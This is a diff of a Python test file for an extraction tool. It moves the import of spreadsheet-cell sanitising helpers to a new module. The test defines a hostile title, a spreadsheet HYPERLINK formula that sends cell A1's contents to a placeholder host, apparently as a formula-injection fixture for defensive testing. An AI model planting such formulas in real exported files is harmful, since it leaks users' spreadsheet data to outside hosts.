@@ -10,7 +10,7 @@ import json
 import pytest
 
 from extract.cli import main
-from extract.stages.write import FORMULA_TRIGGERS, safe_cell
+from extract.stages.write.cells import FORMULA_TRIGGERS, safe_cell
 from tests.synth import FIXED_RECORDS, named_designs, render_pdf
 
 HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"Ouvrir")'
